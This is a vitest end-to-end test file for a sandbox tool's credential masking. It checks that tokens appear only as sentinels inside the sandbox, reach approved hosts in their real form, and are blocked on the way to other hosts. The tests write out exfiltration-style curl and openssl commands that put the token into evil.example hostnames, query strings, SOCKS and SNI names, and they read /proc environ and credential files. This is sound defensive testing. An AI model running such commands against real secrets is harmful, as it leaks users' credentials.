// Credentials end to end (SPEC §7, §10 invariants 5 and 11): the real srt, real bubblewrap,
// real clients inside (curl, python3, node, openssl) and loopback upstreams outside that record
// every byte they receive. 127.0.0.2 is an inject host; 127.0.0.3 is allowed but is not.
// Plain HTTP with allowPlaintextInject here; terminated TLS (HTTP/1.1 and HTTP/2), SSE and the
// 200 MB upload are in credentials-tls.test.ts.
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import { connect as connectNet, createServer as createNetServer, type AddressInfo, type Server, type Socket } from 'node:net';
import { createServer as createTlsServer } from 'node:tls';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as jose from 'jose';
import { base62, crc32 } from '../../src/credentials/sentinels.js';
import { keyValues, loadedFiles, REPO, srt, tempDir, writeTree, type DryRunPlan } from './helpers.js';
import { rmrf, selfSigned } from './proxy-fixtures.js';

const tmp = tempDir('srt-cred-');
const home = join(tmp.path, 'home');
const cwd = join(tmp.path, 'work');

const entropy = 'Q7f3Kx9PzL2mN8vR4tY6wB1cD5hJ0s';
/** A GitHub token with a valid checksum, as real ones have. */
const GH = `ghp_${entropy}${base62(crc32(entropy), 6)}`;
const GH_QUERY = 'glpat-Ab12Cd34Ef56Gh78Ij90';
const BODY_KEY = 'sk-proj-live/key+with=symbols0123456789abcdefXYZ';
const NPM = 'npm_deniedDeniedDeniedDenied0123456789';
const FILE_TOKEN = 'gho_16C7e42F292c6912E7710c838347Ae178B4a';
const NETRC_PW = 'netrc-Password-0123456789-abcdef';
const JSON_TOKEN = 'json-token-0123456789abcdefghijklmnop';
const REALS = [GH, GH_QUERY, BODY_KEY, NPM, FILE_TOKEN, NETRC_PW, JSON_TOKEN];

/** A loopback upstream that records every byte it receives, per connection. */
interface Upstream {
  server: http.Server;
  port: number;
  raw: () => string;
  reset: () => void;
}

function handler(req: http.IncomingMessage, res: http.ServerResponse): void {
  const chunks: Buffer[] = [];
  const url = req.url ?? '/';
  req.on('data', (c: Buffer) => chunks.push(c));
  req.on('end', () => {
    const body = Buffer.concat(chunks).toString();
    const echo = JSON.stringify({ method: req.method, url, headers: req.headers, body });
    res.setHeader('content-type', 'application/json');
    res.setHeader('x-echo-authorization', String(req.headers.authorization ?? ''));
    res.end(echo);
  });
}

async function upstream(host: string): Promise<Upstream> {
  const received: Buffer[] = [];
  const server = tracked(http.createServer(handler));
  server.on('connection', (s: Socket) => s.on('data', (d: Buffer) => received.push(d)));
  await new Promise<void>((r) => server.listen(0, host, r));
  return {
    server,
    port: (server.address() as AddressInfo).port,
    raw: () => Buffer.concat(received).toString('latin1'),
    reset: () => { received.length = 0; },
  };
}

let inject: Upstream;
let other: Upstream;
/** A TLS server on the non-inject host (for the SNI tripwire), recording the raw bytes it gets. */
let tlsServer: Server;
let recorder: Server;
/** Every socket the servers here accepted or opened: destroyed at the end, so close() returns. */
const open = new Set<Socket>();
function tracked<T extends Server | http.Server>(server: T): T {
  server.on('connection', (s: Socket) => {
    open.add(s);
    s.on('close', () => open.delete(s));
  });
  return server;
}
let tlsPort = 0;
const tlsReceived: Buffer[] = [];
const cert = selfSigned(['tls.test']);
let settingsFile: string;
const baseEnv = () => ({ GH_TOKEN: GH, GITHUB_TOKEN: GH, GL_TOKEN: GH_QUERY, BODY_KEY, NPM_TOKEN: NPM });

interface Settings {
  network: Record<string, unknown>;
  credentials: { envVars: object[]; files: object[]; [key: string]: unknown };
}

function baseSettings(): Settings {
  return {
    network: { allowedDomains: [`127.0.0.2:${inject.port}`, `127.0.0.3:${other.port}`, `127.0.0.3:${tlsPort}`] },
    credentials: {
      allowPlaintextInject: true,
      envVars: [
        { name: 'GH_TOKEN', mode: 'mask', injectHosts: ['127.0.0.2'] },
        { name: 'GL_TOKEN', mode: 'mask', injectHosts: ['127.0.0.2'], injectInto: ['headers', 'query'] },
        { name: 'BODY_KEY', mode: 'mask', injectHosts: ['127.0.0.2'], injectInto: ['headers', 'body'] },
        { name: 'NPM_TOKEN', mode: 'deny' },
      ],
      files: [
        { path: '~/.config/gh/hosts.yml', mode: 'mask', extract: 'oauth_token:\\s*(\\S+)', injectHosts: ['127.0.0.2'] },
        { path: '~/.netrc', mode: 'mask', extract: 'password\\s+(\\S+)', injectHosts: ['127.0.0.2'] },
        { path: '~/.docker/config.json', mode: 'mask', extract: '"token":\\s*"([^"]+)"', injectHosts: ['127.0.0.2'] },
        { path: '~/.npmrc', mode: 'deny' },
      ],
    },
  };
}

async function run(script: string, opts: { settings?: object; env?: Record<string, string>; args?: string[] } = {}) {
  writeFileSync(settingsFile, JSON.stringify(opts.settings ?? baseSettings()));
  const r = await srt([...(opts.args ?? []), '--settings', settingsFile, '-c', script], { home, cwd, env: { ...baseEnv(), ...opts.env } });
  return { ...r, kv: keyValues(r.stdout) };
}

/** No real value anywhere in `text`. */
function noReal(text: string): void {
  for (const real of REALS) expect(text, `contains ${real}`).not.toContain(real);
}

beforeAll(async () => {
  mkdirSync(cwd, { recursive: true });
  writeTree(home, {
    '.config/gh/hosts.yml': `github.com:\n    user: octocat\n    oauth_token: ${FILE_TOKEN}\n    git_protocol: https\n`,
    '.netrc': `machine 127.0.0.2 login octocat password ${NETRC_PW}\n`,
    '.docker/config.json': JSON.stringify({ auths: { 'registry.example': { token: JSON_TOKEN } } }, null, 2),
    '.npmrc': '//registry.npmjs.org/:_authToken=npm_fileSecretValue0123456789\n',
  });
  chmodSync(join(home, '.netrc'), 0o600);
  settingsFile = join(tmp.path, 'settings.json');
  inject = await upstream('127.0.0.2');
  other = await upstream('127.0.0.3');
  // The TLS server sits behind a relay that records the raw bytes (a TLS socket's own are not observable).
  tlsServer = tracked(createTlsServer({ cert: cert.cert, key: cert.key }, (s) => s.end('hello over tls\n')));
  await new Promise<void>((r) => tlsServer.listen(0, '127.0.0.3', r));
  const inner = (tlsServer.address() as AddressInfo).port;
  recorder = tracked(createNetServer((c) => {
    const up = connectNet(inner, '127.0.0.3');
    open.add(up);
    up.on('close', () => open.delete(up));
    c.on('data', (d: Buffer) => tlsReceived.push(d));
    c.pipe(up).pipe(c);
    c.on('error', () => up.destroy());
    up.on('error', () => c.destroy());
  }));
  await new Promise<void>((r) => recorder.listen(0, '127.0.0.3', r));
  tlsPort = (recorder.address() as AddressInfo).port;
});

afterAll(async () => {
  for (const sock of open) sock.destroy();
  await Promise.all([inject.server, other.server, recorder, tlsServer].map((srv) => new Promise((r) => srv.close(r))));
  rmrf(cert.dir);
  tmp.cleanup();
});

describe('inside the sandbox only sentinels exist', () => {
  it('environment, /proc/*/environ and masked files show sentinels; a GitHub-style validator accepts them; denied ones are gone', async () => {
    const validator = [
      'import os, sys, zlib',
      'D = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"',
      'def ok(t):',
      '    if not t.startswith(("ghp_", "gho_")) or len(t) != 40: return False',
      '    n = 0',
      '    for ch in t[-6:]: n = n * 62 + D.index(ch)',
      '    return zlib.crc32(t[4:34].encode()) == n',
      'print("gh_valid=%s" % ok(os.environ["GH_TOKEN"]))',
      'print("file_valid=%s" % ok(open(os.path.expanduser("~/.config/gh/hosts.yml")).read().split("oauth_token: ")[1].split()[0]))',
    ].join('\n');
    writeFileSync(join(cwd, 'validate.py'), validator);
    const r = await run([
      'echo "gh=$GH_TOKEN"',
      'echo "github=$GITHUB_TOKEN"',
      'echo "npm=${NPM_TOKEN-unset}"',
      'echo "self_environ=$(cat /proc/self/environ | tr "\\0" "\\n" | grep ^GH_TOKEN=)"',
      'echo "pid1_environ=$( (cat /proc/1/environ 2>/dev/null || echo denied) | tr "\\0" "\\n" | grep -E "^GH_TOKEN=|^denied$")"',
      // Every process the command can see, its environment and command line.
      'for p in /proc/[0-9]*; do cat $p/environ $p/cmdline 2>/dev/null; done | tr "\\0" "\\n" > $TMPDIR/all.txt; echo "procs_lines=$(wc -l < $TMPDIR/all.txt)"',
      'cat $TMPDIR/all.txt',
      'cat ~/.config/gh/hosts.yml ~/.netrc ~/.docker/config.json; echo',
      'echo "npmrc=$(cat ~/.npmrc 2>&1)"',
      'python3 validate.py',
      // The copy keeps the original's permission bits (without write: it is read-only).
      'echo "netrc_mode=$(stat -c %a ~/.netrc)"',
    ].join('\n'));
    expect(r.exitCode, r.stderr).toBe(0);
    noReal(r.stdout + r.stderr);
    expect(r.kv.gh).toMatch(/^ghp_[A-Za-z0-9]{36}$/);
    expect(r.kv.gh).not.toBe(GH);
    expect(r.kv.github).toBe(r.kv.gh); // another variable holding the same value gets the same sentinel
    expect(r.kv.npm).toBe('unset');
    expect(r.kv.self_environ).toBe(`GH_TOKEN=${r.kv.gh}`);
    expect(Number(r.kv.procs_lines)).toBeGreaterThan(5);
    // PID 1 (srt's helper) keeps its environment to itself; were it readable, it would hold the sentinel.
    expect(['denied', `GH_TOKEN=${r.kv.gh}`]).toContain(r.kv.pid1_environ);
    expect(r.kv.npmrc).toMatch(/Permission denied/);
    expect(r.kv).toMatchObject({ gh_valid: 'True', file_valid: 'True', netrc_mode: '400' });
    expect(r.stdout).toMatch(/oauth_token: gho_[A-Za-z0-9]{36}\n/);
  });

  it('extract keeps hosts.yml, .netrc and JSON parseable inside', async () => {
    const r = await run([
      `node -e "const y=require('${REPO}/node_modules/yaml'); const d=y.parse(require('fs').readFileSync(process.env.HOME+'/.config/gh/hosts.yml','utf8')); console.log('yaml_user='+d['github.com'].user); console.log('yaml_token='+d['github.com'].oauth_token)"`,
      `python3 -c "import netrc, os; a=netrc.netrc(os.path.expanduser('~/.netrc')).authenticators('127.0.0.2'); print('netrc_login=%s' % a[0]); print('netrc_pw=%s' % a[2])"`,
      `python3 -c "import json, os; d=json.load(open(os.path.expanduser('~/.docker/config.json'))); print('json_token=%s' % d['auths']['registry.example']['token'])"`,
    ].join('\n'));
    expect(r.exitCode, r.stderr).toBe(0);
    noReal(r.stdout);
    expect(r.kv.yaml_user).toBe('octocat');
    expect(r.kv.yaml_token).toMatch(/^gho_[A-Za-z0-9]{36}$/);
    expect(r.kv.netrc_login).toBe('octocat');
    expect(r.kv.netrc_pw).toHaveLength(NETRC_PW.length);
    expect(r.kv.json_token).toHaveLength(JSON_TOKEN.length);
  });
});

describe('injection toward inject hosts', () => {
  it('headers (token, Bearer, Basic, percent-encoded), the query with "query" and bodies with "body" arrive with the real value', async () => {
    inject.reset();
    const base = `http://127.0.0.2:${inject.port}`;
    const r = await run([
      `curl -s -H "Authorization: token $GH_TOKEN" ${base}/token >/dev/null`,
      `curl -s -H "Authorization: Bearer $GH_TOKEN" ${base}/bearer >/dev/null`,
      `curl -s -u "octocat:$GH_TOKEN" ${base}/basic >/dev/null`,
      `curl -s -H "X-Enc: $(python3 -c 'import os, urllib.parse; print(urllib.parse.quote(os.environ["BODY_KEY"], safe=""))')" ${base}/enc >/dev/null`,
      `curl -s "${base}/query?private_token=$GL_TOKEN" >/dev/null`,
      `curl -s "${base}/noquery?t=$GH_TOKEN" >/dev/null`,
      `curl -s -H 'content-type: application/json' -d "{\\"key\\":\\"$BODY_KEY\\",\\"gh\\":\\"$GH_TOKEN\\"}" ${base}/json >/dev/null`,
      `curl -s --data-urlencode "key=$BODY_KEY" ${base}/form >/dev/null`,
      'echo done=1',
    ].join('\n'));
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.kv.done).toBe('1');
    const seen = inject.raw();
    expect(seen).toContain(`authorization: token ${GH}\r\n`.replace('authorization', 'Authorization'));
    expect(seen).toContain(`Authorization: Bearer ${GH}\r\n`);
    expect(seen).toContain(`Authorization: Basic ${Buffer.from(`octocat:${GH}`).toString('base64')}\r\n`);
    expect(seen).toContain(`X-Enc: ${encodeURIComponent(BODY_KEY)}\r\n`);
    expect(seen).toContain(`GET /query?private_token=${GH_QUERY} `);
    // Without "query" in its injectInto the target keeps the sentinel (and its own host is no tripwire).
    expect(seen).toMatch(/GET \/noquery\?t=ghp_[A-Za-z0-9]{36} /);
    expect(seen).not.toContain(`/noquery?t=${GH}`);
    // "body" for BODY_KEY only: its real value in the JSON and the form; GH_TOKEN's sentinel stays.
    const json = /\r\n\r\n(\{"key":.*?\})/.exec(seen)![1]!;
    expect(JSON.parse(json).key).toBe(BODY_KEY);
    expect(JSON.parse(json).gh).toMatch(/^ghp_[A-Za-z0-9]{36}$/);
    expect(JSON.parse(json).gh).not.toBe(GH);
    expect(seen).toContain(`key=${encodeURIComponent(BODY_KEY)}`);
    // Length-preserving sentinels kept the client's Content-Length.
    expect(seen).toMatch(new RegExp(`Content-Length: ${json.length}\\r\\n`));
  });

  it('an upstream that echoes the request (headers and body) hands back only sentinels', async () => {
    const r = await run(`curl -s -i -H "Authorization: token $GH_TOKEN" -d "key=$BODY_KEY" http://127.0.0.2:${inject.port}/echo; echo; echo "gh=$GH_TOKEN"`);
    expect(r.exitCode, r.stderr).toBe(0);
    noReal(r.stdout);
    expect(inject.raw()).toContain(GH);
    expect(r.stdout).toContain(`x-echo-authorization: token ${r.kv.gh}`);
    expect(r.stdout).toContain(`"authorization":"token ${r.kv.gh}"`);
  });

  it('fake JWT: decodes with jose inside to the expected claims; the upstream gets the real token', async () => {
    const real = await new jose.SignJWT({ sub: 'user-42', org: 'acme', exp: 4102444800, iat: 1700000000 })
      .setProtectedHeader({ alg: 'HS256', typ: 'JWT' }).sign(new TextEncoder().encode('k'.repeat(32)));
    const settings = baseSettings();
    settings.credentials.envVars.push({ name: 'API_JWT', mode: 'mask', decode: 'jwt', maskClaims: ['sub'], injectHosts: ['127.0.0.2'] });
    inject.reset();
    const r = await run([
      `node --input-type=module -e "const j = await import('${REPO}/node_modules/jose/dist/webapi/index.js'); const p = j.decodeJwt(process.env.API_JWT); const h = j.decodeProtectedHeader(process.env.API_JWT); console.log('claims=' + JSON.stringify(p)); console.log('alg=' + h.alg)"`,
      `curl -s -H "Authorization: Bearer $API_JWT" http://127.0.0.2:${inject.port}/jwt >/dev/null`,
    ].join('\n'), { settings, env: { API_JWT: real } });
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.stdout).not.toContain(real);
    const claims = JSON.parse(r.kv.claims!);
    expect(claims).toMatchObject({ org: 'acme', exp: 4102444800, iat: 1700000000 });
    expect(claims.sub).not.toBe('user-42');
    expect(r.kv.alg).toBe('HS256');
    expect(inject.raw()).toContain(`Authorization: Bearer ${real}\r\n`);
  });
});

describe('the tripwire: sentinels on their way outside their injectHosts', () => {
  it('in a header, the target, a body (aborted mid-way before the sentinel leaves), a CONNECT or SOCKS host, plaintext through SOCKS, an SNI name', async () => {
    other.reset();
    const base = `http://127.0.0.3:${other.port}`;
    // A body whose sentinel comes after 256 KiB: the upload is cut before the sentinel's bytes leave.
    writeFileSync(join(cwd, 'body.sh'), 'head -c 262144 /dev/zero | tr "\\0" a; printf "%s" "$GH_TOKEN"; head -c 65536 /dev/zero | tr "\\0" b\n');
    const code = (name: string, cmd: string) => `echo "${name}=$(${cmd} -s -o /dev/null -w '%{http_code}' 2>/dev/null)"`;
    const r = await run([
      code('header', `curl -H "X-Note: $GH_TOKEN" ${base}/h`),
      code('query', `curl "${base}/paste?c=$GH_TOKEN"`),
      code('basic', `curl -u "me:$GH_TOKEN" ${base}/b`),
      code('body', `sh body.sh | curl -H 'content-type: text/plain' --data-binary @- ${base}/body`),
      `echo "connect=$(curl -s -o /dev/null -w '%{http_connect}' -p "https://$(echo $GH_TOKEN | tr A-Z a-z).evil.example/")"`,
      `curl -s --max-time 5 --socks5-hostname 127.0.0.1:1080 "http://$GH_TOKEN.evil.example/" >/dev/null 2>&1; echo "socks_host=$?"`,
      `curl -s --max-time 5 --socks5-hostname 127.0.0.1:1080 -H "X-Note: $GH_TOKEN" ${base}/socks >/dev/null 2>&1; echo "socks_plain=$?"`,
      // The same TLS connection through a CONNECT tunnel, once with a clean SNI name (its
      // ClientHello reaches the server), once with the sentinel (it never does).
      `echo | timeout 10 openssl s_client -proxy 127.0.0.1:3128 -connect 127.0.0.3:${tlsPort} -servername clean.example >/dev/null 2>&1`,
      `echo | timeout 10 openssl s_client -proxy 127.0.0.1:3128 -connect 127.0.0.3:${tlsPort} -servername "$(echo $GH_TOKEN | tr A-Z a-z).example" >/dev/null 2>&1; echo "sni=$?"`,
      code('npm_unset_ok', `curl ${base}/clean`),
    ].join('\n'));
    expect(r.exitCode, r.stderr).toBe(0);
    expect(r.kv).toMatchObject({ header: '403', query: '403', basic: '403', body: '403', connect: '403', npm_unset_ok: '200' });
    expect(r.kv.socks_host).not.toBe('0');
    expect(r.kv.socks_plain).not.toBe('0');
    expect(r.kv.sni).not.toBe('0');
    expect(Buffer.concat(tlsReceived).toString('latin1')).toContain('clean.example');
    expect(Buffer.concat(tlsReceived).toString('latin1')).not.toMatch(/ghp_[a-z0-9]{36}/);
    const seen = other.raw();
    noReal(seen);
    // The sentinel never reached the host, in any spelling the command used.
    expect(seen).not.toMatch(/ghp_[A-Za-z0-9]{36}/i);
    // The mid-body abort: the bytes before the sentinel may have gone, the sentinel and after never.
    expect(seen).not.toContain('bbbb');
    expect(seen).toContain('/clean');
    expect(r.stderr).toMatch(/^srt: blocked GH_TOKEN's sentinel on its way to 127\.0\.0\.3$/m);
    expect(r.stderr).toMatch(/^srt: blocked GH_TOKEN's sentinel on its way to ghp_[a-z0-9]{36}\.evil\.example$/m);
  });

  it('a sentinel that is not foreign passes; without allowPlaintextInject a plain-HTTP inject host gets it unchanged', async () => {
    const settings = baseSettings();
    settings.credentials.allowPlaintextInject = false;
    inject.reset();
    const r = await run(`curl -s -o /dev/null -w 'code=%{http_code}\\n' -H "Authorization: token $GH_TOKEN" http://127.0.0.2:${inject.port}/plain`, { settings });
    expect(r.kv.code).toBe('200');
    expect(inject.raw()).toMatch(/Authorization: token ghp_[A-Za-z0-9]{36}\r\n/);
    expect(inject.raw()).not.toContain(GH);
    expect(r.stderr).toContain('masked without network.tlsTerminate: the sentinel would reach the server unchanged');
  });
});

describe('settings, trust and the start-up report', () => {
  it('a project-scope mask and source are ignored with a warning; deny in one scope and mask in another is deny', async () => {
    const repo = join(tmp.path, 'repo');
    writeTree(repo, {
      '.git/HEAD': 'ref: refs/heads/main\n',
      '.srt/settings.json': JSON.stringify({
        credentials: {
          envVars: [{ name: 'GH_TOKEN', mode: 'deny' }, { name: 'PROJ', mode: 'mask', source: { command: ['sh', '-c', 'touch /tmp/srt-cred-source-ran; echo x'] } }],
          files: [{ path: 'local.key', mode: 'mask' }],
        },
      }),
      'local.key': 'project-visible\n',
    });
    writeFileSync(settingsFile, JSON.stringify(baseSettings()));
    const r = await srt(['--settings', settingsFile, '-c', 'echo "gh=${GH_TOKEN-unset}"; echo "proj=${PROJ-unset}"; echo "key=$(cat local.key)"'], { home, cwd: repo, env: baseEnv() });
    expect(r.exitCode, r.stderr).toBe(0);
    const kv = keyValues(r.stdout);
    expect(kv.gh).toBe('unset'); // the project's deny wins over the cli mask
    expect(kv.proj).toBe('unset');
    expect(kv.key).toBe('project-visible');
    expect(r.stderr).toContain('credentials.envVars[1]: ignored — project settings (which come with the repository) may not let a real secret leave the sandbox (PROJ, mode "mask"), nor run a command outside it (source)');
    expect(r.stderr).toContain('credentials.files[0]: ignored — project settings');
    expect(() => readFileSync('/tmp/srt-cred-source-ran')).toThrow();
  });

  it('source commands: the value comes from the command; a failing one stops the run (exit 125) with its stderr', async () => {
    const settings = baseSettings();
    writeFileSync(join(home, 'token.sh'), `#!/bin/sh\necho "${GH}"\n`, { mode: 0o755 });
    writeFileSync(join(home, 'broken.sh'), '#!/bin/sh\necho "gh: not logged in" >&2\nexit 1\n', { mode: 0o755 });
    settings.credentials.envVars = [{ name: 'SOURCED', mode: 'mask', injectHosts: ['127.0.0.2'], source: { command: [join(home, 'token.sh')] } }];
    inject.reset();
    const ok = await run(`echo "s=$SOURCED"; curl -s -H "Authorization: token $SOURCED" http://127.0.0.2:${inject.port}/src >/dev/null`, { settings });
    expect(ok.exitCode, ok.stderr).toBe(0);
    expect(ok.kv.s).toMatch(/^ghp_[A-Za-z0-9]{36}$/);
    expect(ok.kv.s).not.toBe(GH);
    expect(inject.raw()).toContain(`Authorization: token ${GH}\r\n`);
    settings.credentials.envVars = [{ name: 'SOURCED', mode: 'mask', source: { command: [join(home, 'broken.sh')] } }];
    const bad = await run('touch ran-anyway', { settings });
    expect(bad.exitCode).toBe(125);
    expect(bad.stderr).toContain(`srt: credentials: SOURCED: source command \`${join(home, 'broken.sh')}\` failed (exit 1): gh: not logged in; the command did not run`);
    expect(() => readFileSync(join(cwd, 'ran-anyway'))).toThrow();
  });

  it('start-up report: extract without a match, an injectHosts entry that can never match, a mask that falls back to deny', async () => {
    const settings = baseSettings();
    settings.credentials.envVars = [{ name: 'GH_TOKEN', mode: 'mask', injectHosts: ['api.github.com'] }];
    settings.credentials.files = [
      { path: '~/.netrc', mode: 'mask', extract: 'token=(\\S+)' },
      { path: '~/.config', mode: 'mask' },
    ];
    const r = await run('cat ~/.netrc >/dev/null; ls ~/.config | wc -l', { settings });
    expect(r.stderr).toContain('srt: warning: credentials: GH_TOKEN: injectHosts entry "api.github.com" is not covered by network.allowedDomains');
    expect(r.stderr).toContain(`srt: warning: credentials: ${home}/.netrc: extract "token=(\\\\S+)" matches nothing; passed to the command UNMASKED`);
    expect(r.stderr).toContain(`srt: warning: credentials: ${home}/.config: it is a directory, so it cannot be masked safely; denied instead`);
    expect(r.stdout.trim()).toBe('0'); // a denied directory appears empty
  });

  it('--dry-run, srt config (text and JSON) and --debug never print a real value', async () => {
    writeFileSync(settingsFile, JSON.stringify(baseSettings()));
    const env = baseEnv();
    const outputs = await Promise.all([
      srt(['--settings', settingsFile, '--dry-run', '--', 'true'], { home, cwd, env }),
      srt(['config', '--settings', settingsFile], { home, cwd, env }),
      srt(['config', '--json', '--settings', settingsFile], { home, cwd, env }),
      srt(['--debug', '--settings', settingsFile, '--', 'true'], { home, cwd, env }),
      srt(['--settings', settingsFile, '--dry-run', '--json', '--', 'true'], { home, cwd, env }),
    ]);
    for (const o of outputs) {
      expect(o.exitCode, o.stderr).toBe(0);
      noReal(o.stdout + o.stderr);
    }
    expect(outputs[0]!.stdout).toContain('GH_TOKEN=<sentinel, 40 characters; swapped back for 127.0.0.2 (in headers)>');
    expect(outputs[0]!.stdout).toContain(`mask ${home}/.config/gh/hosts.yml: the command reads a sentinel copy (1 value masked); bwrap reads the copy from fd `);
    // bwrap writes the copy from a descriptor over the file, never binding the host's.
    const plan = JSON.parse(outputs[4]!.stdout) as DryRunPlan;
    const hosts = `${home}/.config/gh/hosts.yml`;
    const copy = plan.filesystem.mounts!.find((m) => m.dest === hosts);
    expect(copy).toEqual({ kind: 'data', dest: hosts, hides: hosts, fd: expect.any(Number), mode: expect.any(Number) });
    const at = plan.argv.lastIndexOf(hosts);
    expect(plan.argv.slice(at - 4, at + 1)).toEqual(['--perms', (copy!.mode as number).toString(8).padStart(4, '0'), '--ro-bind-data', String(copy!.fd), hosts]);
    expect(outputs[1]!.stdout).toContain('Credentials in a run (real values are never shown):');
    // The macOS backend's plan: the same sentinels, masked files denied (no sentinel copy there).
    const mac = await srt(['--settings', settingsFile, '--platform', 'macos', '--dry-run', '--', 'true'], { home, cwd, env });
    expect(mac.exitCode, mac.stderr).toBe(0);
    noReal(mac.stdout + mac.stderr);
    expect(mac.stdout).toContain('GH_TOKEN=<sentinel, 40 characters; swapped back for 127.0.0.2 (in headers)>');
    expect(mac.stdout).toContain(`deny ${home}/.config/gh/hosts.yml: unreadable inside; a mask entry, but masked files need a sentinel copy bound over them, which this platform cannot do`);
    expect(JSON.parse(outputs[2]!.stdout).credentialPlan.unsetEnv).toEqual(['NPM_TOKEN']);
  });
});

describe('lazy loading', () => {
  it('`srt -- true` loads no credential code without credential entries; jose only for decode "jwt"', async () => {
    /** The source modules (rolldown's `// dist/…` markers) and packages the run loaded. */
    const loaded = async (settings: object) => {
      writeFileSync(settingsFile, JSON.stringify(settings));
      const r = await srt(['--settings', settingsFile, '--', 'true'], { cwd, home, env: { GH_TOKEN: GH, NODE_DEBUG: 'module' } });
      expect(r.exitCode, r.stderr).toBe(0);
      const text = loadedFiles(r.stderr).filter((f) => f.startsWith(`${REPO}/dist/`)).map((f) => readFileSync(f, 'utf8')).join('\n');
      return {
        credentials: [...text.matchAll(/^\/\/ dist\/((?:credentials|platform)\/[\w-]+)\.js$/gm)].map((m) => m[1]!).filter((m) => !m.startsWith('platform/') || m === 'platform/credentials').sort(),
        jose: text.includes('node_modules/jose/'),
      };
    };
    const network = { allowedDomains: ['127.0.0.2'] };
    // What is left is the command's environment and the dry-run wording (no sentinels, no builder).
    expect(await loaded({ network })).toEqual({ credentials: ['credentials/describe', 'credentials/env'], jose: false });
    const masked = await loaded({ network, credentials: { envVars: [{ name: 'GH_TOKEN', mode: 'mask' }] } });
    expect(masked.credentials).toEqual(expect.arrayContaining(['credentials/plan', 'credentials/sentinels', 'credentials/substitute', 'platform/credentials']));
    expect(masked.jose).toBe(false);
    expect((await loaded({ network, credentials: { envVars: [{ name: 'GH_TOKEN', mode: 'mask', decode: 'jwt' }] } })).jose).toBe(true);
  });
});
